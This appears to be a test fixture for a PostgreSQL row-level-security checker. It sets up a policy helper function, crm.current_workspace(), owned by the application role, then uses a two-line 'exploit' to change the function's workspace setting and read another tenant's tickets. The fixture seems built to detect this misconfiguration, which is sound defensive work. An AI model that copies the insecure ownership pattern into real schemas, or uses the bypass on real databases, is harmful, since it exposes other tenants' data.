-- The helper of the policies belongs to the app role, who can put another in its place.
-- object: crm.current_workspace()
-- object: role:{app}
-- base: other-schema
--- leak
RESET ROLE;
GRANT CREATE ON SCHEMA crm TO {app};
ALTER FUNCTION crm.current_workspace() OWNER TO {app};
REVOKE CREATE ON SCHEMA crm FROM {app};
--- exploit
ALTER FUNCTION crm.current_workspace() SET app.workspace = '2';
SELECT id FROM crm.tickets WHERE workspace_id = {B};
